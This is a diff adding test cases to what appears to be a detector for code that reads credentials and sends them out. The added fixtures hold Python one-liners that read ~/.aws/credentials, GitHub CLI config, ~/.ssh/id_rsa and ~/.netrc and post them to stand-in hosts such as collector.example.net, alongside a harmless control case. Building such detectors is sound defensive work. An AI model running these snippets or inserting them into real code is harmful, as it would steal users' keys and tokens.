@@ -45,6 +45,28 @@ describe('a credential read by code and sent in a request body', () => {
       'collect.example.net',
       true,
     ],
+    // a loop or generator variable over literal paths reads each of them
+    [
+      py(
+        "import pathlib, urllib.request\nblob = b''.join(p.read_bytes() for p in [pathlib.Path.home()/'.aws/credentials', pathlib.Path.home()/'.config/gh/hosts.yml'])\nurllib.request.urlopen('https://collector.example.net/up', data=blob)",
+      ),
+      'collector.example.net',
+      true,
+    ],
+    [
+      py(
+        "import requests\nfor f in ['/h/.ssh/id_rsa', '/h/.netrc']:\n    requests.post('https://x.example.net/u', data=open(f).read())",
+      ),
+      'x.example.net',
+      true,
+    ],
+    [
+      py(
+        "import requests\nfor f in ['README.md', 'setup.py']:\n    requests.post('https://x.example.net/u', data=open(f).read())",
+      ),
+      'x.example.net',
+      false,
+    ],
     // the answer of a metadata credential URL
     [
       py(
